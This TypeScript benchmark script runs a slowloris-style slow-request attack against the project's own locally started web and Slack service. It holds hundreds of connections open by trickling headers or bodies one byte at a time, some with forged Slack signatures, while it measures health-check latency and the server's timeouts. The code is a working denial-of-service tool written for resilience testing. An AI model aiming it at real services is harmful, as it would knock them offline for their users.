/**
 * The slow-body (slowloris) reproduction: many connections that trickle their request one byte
 * at a time, against a running service, while /healthz is probed. It counts how many of the
 * attacker's connections the server still holds open at each checkpoint and what it answered
 * them. Four kinds of connection, in turn:
 *
 *   slow-headers        `GET /healthz`, the header lines one byte at a time (never finished)
 *   chat-body           `POST /api/chat/...` with complete headers, the JSON body one byte at a time
 *   slack-unsigned      `POST /slack/events` without Slack signature headers, body one byte at a time
 *   slack-signed        `POST /slack/events` with a well-formed, current signature (a replayed
 *                       capture, say), body one byte at a time
 *
 * Run against a fresh service (web and Slack adapters, a local fake Slack and model servers):
 *
 *   npx tsx bench/slow-body-attack.ts            # 200 connections, a byte every 20 s, 120 s
 *   SLOW_BODY_SECONDS=330 SLOW_BODY_CONNECTIONS=200 SLOW_BODY_INTERVAL_MS=20000 npx tsx bench/slow-body-attack.ts
 *
 * Settings of the service under attack can be passed as its environment variables
 * (HTTP_REQUEST_TIMEOUT_MS, ...). The fault suite runs the same attack (test/faults/hostile-http.fault.ts).
 */
import net from 'node:net';
import { createHmac } from 'node:crypto';
import { fileURLToPath } from 'node:url';

export type AttackKind = 'slow-headers' | 'chat-body' | 'slack-unsigned' | 'slack-signed';
export const ATTACK_KINDS: readonly AttackKind[] = ['slow-headers', 'chat-body', 'slack-unsigned', 'slack-signed'];

export interface SlowBodyAttackOptions {
  /** The service's base URL (`http://127.0.0.1:port`). */
  url: string;
  /** @defaultValue 200 */
  connections?: number;
  /** Time between two bytes of one connection. @defaultValue 20000 */
  byteIntervalMs?: number;
  /** How long the attack lasts; every connection left is then closed by the attacker. */
  durationMs: number;
  /** When to count the connections still open, in ms from the start. @defaultValue every 30 s */
  checkpointsMs?: number[];
  /** Slack's signing secret, for the `slack-signed` kind (the attacker replays a valid signature). */
  slackSigningSecret?: string;
  /** How often /healthz is asked during the attack. @defaultValue 2000 */
  healthIntervalMs?: number;
  /** A /healthz probe slower than this counts as failed. @defaultValue 5000 */
  healthTimeoutMs?: number;
  /** A line per checkpoint, for long runs. */
  progress?: (line: string) => void;
}

export interface KindResult {
  connections: number;
  /** Connections of this kind still open at each checkpoint (seconds -> count). */
  openAt: Record<string, number>;
  /** The status lines the server answered (e.g. `408`, `401`), `none` when it closed silently or never answered. */
  answers: Record<string, number>;
  /** When the server closed them, in seconds from their start (median and max), of those it closed. */
  closedAfterSeconds: { median: number | null; max: number | null; closed: number };
}

export interface SlowBodyAttackResult {
  connections: number;
  byteIntervalMs: number;
  durationMs: number;
  /** Connections the server refused outright (connection cap) or that failed to connect. */
  refused: number;
  openAt: Record<string, number>;
  kinds: Record<AttackKind, KindResult>;
  health: { probes: number; ok: number; failed: number; maxLatencyMs: number; medianLatencyMs: number };
}

interface Tracked {
  kind: AttackKind;
  socket: net.Socket;
  startedAt: number;
  closedAt: number | null;
  status: string | null;
  refused: boolean;
}

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

function median(values: number[]): number | null {
  if (!values.length) return null;
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor((sorted.length - 1) / 2)]!;
}

/** The request head and the body to trickle, per kind. */
function requestOf(kind: AttackKind, index: number, host: string, secret: string | undefined): { head: string; body: string } {
  const body = JSON.stringify({ text: `slow ${index} ${'x'.repeat(2000)}`, user: 'attacker' });
  const common = `Host: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`;
  switch (kind) {
    case 'slow-headers':
      // Never ends its headers: a header line that goes on for ever.
      return { head: `GET /healthz HTTP/1.1\r\nHost: ${host}\r\nX-Padding: `, body: 'a'.repeat(100_000) };
    case 'chat-body':
      return { head: `POST /api/chat/slow-body-${index}/messages HTTP/1.1\r\n${common}\r\n`, body };
    case 'slack-unsigned':
      return { head: `POST /slack/events HTTP/1.1\r\n${common}\r\n`, body };
    case 'slack-signed': {
      const timestamp = Math.floor(Date.now() / 1000);
      const signature = `v0=${createHmac('sha256', secret ?? 'unknown-secret').update(`v0:${timestamp}:${body}`).digest('hex')}`;
      return { head: `POST /slack/events HTTP/1.1\r\n${common}X-Slack-Request-Timestamp: ${timestamp}\r\nX-Slack-Signature: ${signature}\r\n\r\n`, body };
    }
  }
}

function probeHealth(url: string, timeoutMs: number): Promise<{ ok: boolean; ms: number }> {
  const started = Date.now();
  return fetch(`${url}/healthz`, { signal: AbortSignal.timeout(timeoutMs) }).then(
    async (response) => {
      await response.body?.cancel();
      return { ok: response.status === 200, ms: Date.now() - started };
    },
    () => ({ ok: false, ms: Date.now() - started }),
  );
}

/** Run the attack; resolves when `durationMs` has passed (every attacking socket is then destroyed). */
export async function runSlowBodyAttack(options: SlowBodyAttackOptions): Promise<SlowBodyAttackResult> {
  const connections = options.connections ?? 200;
  const intervalMs = options.byteIntervalMs ?? 20_000;
  const target = new URL(options.url);
  const port = Number(target.port);
  const host = target.host;
  const every30s = Array.from({ length: Math.floor(options.durationMs / 30_000) }, (_, index) => (index + 1) * 30_000);
  // The end of the attack is always a checkpoint.
  const checkpoints = [...new Set([...(options.checkpointsMs ?? every30s), options.durationMs])].filter((at) => at <= options.durationMs).sort((a, b) => a - b);
  const started = Date.now();
  const tracked: Tracked[] = [];

  for (let index = 0; index < connections; index++) {
    const kind = ATTACK_KINDS[index % ATTACK_KINDS.length]!;
    const { head, body } = requestOf(kind, index, host, options.slackSigningSecret);
    const socket = net.connect({ host: target.hostname, port });
    const entry: Tracked = { kind, socket, startedAt: Date.now(), closedAt: null, status: null, refused: false };
    tracked.push(entry);
    let received = '';
    const closed = () => {
      if (entry.closedAt === null) entry.closedAt = Date.now();
    };
    socket.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1');
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(received);
      if (status && !entry.status) entry.status = status[1]!;
    });
    socket.on('end', closed);
    socket.on('close', closed);
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code === 'ECONNREFUSED' || error.code === 'ECONNRESET') entry.refused = entry.refused || !socket.bytesWritten;
      closed();
    });
    socket.once('connect', () => {
      entry.startedAt = Date.now();
      socket.write(head);
      let sent = 0;
      // The first byte right away, then one byte per interval.
      const trickle = () => {
        if (entry.closedAt !== null || socket.destroyed || sent >= body.length) return;
        socket.write(body[sent++]!);
        const timer = setTimeout(trickle, intervalMs);
        timer.unref();
      };
      trickle();
    });
    // Do not open them all in one tick: the server's accept queue is not what is under test.
    if (index % 20 === 19) await sleep(20);
  }

  const healthResults: Array<{ ok: boolean; ms: number }> = [];
  let attackOver = false;
  const healthLoop = (async () => {
    while (!attackOver) {
      healthResults.push(await probeHealth(options.url, options.healthTimeoutMs ?? 5000));
      await sleep(options.healthIntervalMs ?? 2000);
    }
  })();

  const openAt: Record<string, number> = {};
  const openByKind = new Map<AttackKind, Record<string, number>>(ATTACK_KINDS.map((kind) => [kind, {}]));
  for (const at of checkpoints) {
    const wait = started + at - Date.now();
    if (wait > 0) await sleep(wait);
    const label = `${Math.round(at / 1000)}s`;
    const open = tracked.filter((entry) => entry.closedAt === null);
    openAt[label] = open.length;
    for (const kind of ATTACK_KINDS) openByKind.get(kind)![label] = open.filter((entry) => entry.kind === kind).length;
    options.progress?.(`[slow-body] ${label}: ${open.length}/${connections} attacking connections still open; /healthz ${healthResults.filter((r) => r.ok).length}/${healthResults.length} ok`);
  }
  attackOver = true;
  await healthLoop;
  for (const entry of tracked) entry.socket.destroy();

  const kinds = Object.fromEntries(
    ATTACK_KINDS.map((kind) => {
      const mine = tracked.filter((entry) => entry.kind === kind);
      const answers: Record<string, number> = {};
      for (const entry of mine) {
        if (entry.closedAt === null) continue;
        const key = entry.status ?? 'none';
        answers[key] = (answers[key] ?? 0) + 1;
      }
      // Only connections the server closed before the attacker gave up count as closed.
      const closedTimes = mine.filter((entry) => entry.closedAt !== null && entry.closedAt <= started + options.durationMs).map((entry) => ((entry.closedAt as number) - entry.startedAt) / 1000);
      const result: KindResult = {
        connections: mine.length,
        openAt: openByKind.get(kind)!,
        answers,
        closedAfterSeconds: { median: median(closedTimes), max: closedTimes.length ? Math.max(...closedTimes) : null, closed: closedTimes.length },
      };
      return [kind, result];
    }),
  ) as Record<AttackKind, KindResult>;
  const latencies = healthResults.map((result) => result.ms);
  return {
    connections,
    byteIntervalMs: intervalMs,
    durationMs: options.durationMs,
    refused: tracked.filter((entry) => entry.refused).length,
    openAt,
    kinds,
    health: {
      probes: healthResults.length,
      ok: healthResults.filter((result) => result.ok).length,
      failed: healthResults.filter((result) => !result.ok).length,
      maxLatencyMs: latencies.length ? Math.max(...latencies) : 0,
      medianLatencyMs: median(latencies) ?? 0,
    },
  };
}

/** `npx tsx bench/slow-body-attack.ts`: start a service with web and Slack, attack it, print the figures. */
async function main(): Promise<void> {
  const { startFakeSlack } = await import('../test/fakes/fake-slack.js');
  const { startProcess } = await import('../test/faults/harness.js');
  const { startModelServer } = await import('../src/demo/model-server.js');
  const { connectRedis, deletePrefix, randomPrefix, REDIS_URL } = await import('../test/helpers/redis.js');
  const seconds = Number(process.env.SLOW_BODY_SECONDS ?? 120);
  const connections = Number(process.env.SLOW_BODY_CONNECTIONS ?? 200);
  const intervalMs = Number(process.env.SLOW_BODY_INTERVAL_MS ?? 20_000);
  const slack = await startFakeSlack();
  const model = await startModelServer({ script: () => ({ content: '{"decision":"approve","reason":"ok","categories":[],"confidence":1,"revised_text":null,"feedback":null}' }) });
  const prefix = randomPrefix('slowbody');
  const passThrough = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('HTTP_') || name === 'TRUST_PROXY') as Array<[string, string]>);
  const service = await startProcess({
    name: 'slow-body-target',
    role: 'all',
    env: {
      REDIS_URL,
      REDIS_PREFIX: prefix,
      ADAPTERS: 'web,slack',
      OPENAI_BASE_URL: model.url,
      OPENAI_API_KEY: 'bench',
      SLACK_BOT_TOKEN: slack.botToken,
      SLACK_API_URL: slack.apiUrl,
      SLACK_SIGNING_SECRET: slack.signingSecret,
      LOG_LEVEL: 'info', // the harness waits for the "countersign started" line
      ...passThrough,
    },
  });
  const redis = connectRedis();
  try {
    console.log(`[slow-body] ${connections} connections, a byte every ${intervalMs / 1000} s, for ${seconds} s against ${service.url}`);
    const result = await runSlowBodyAttack({
      url: service.url,
      connections,
      byteIntervalMs: intervalMs,
      durationMs: seconds * 1000,
      slackSigningSecret: slack.signingSecret,
      progress: (line) => console.log(line),
    });
    console.log(JSON.stringify(result, null, 2));
  } finally {
    await service.stop();
    await deletePrefix(redis, prefix);
    redis.disconnect();
    await model.close();
    await slack.close();
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  main().then(
    () => process.exit(0),
    (error: unknown) => {
      console.error(error);
      process.exit(1);
    },
  );
}
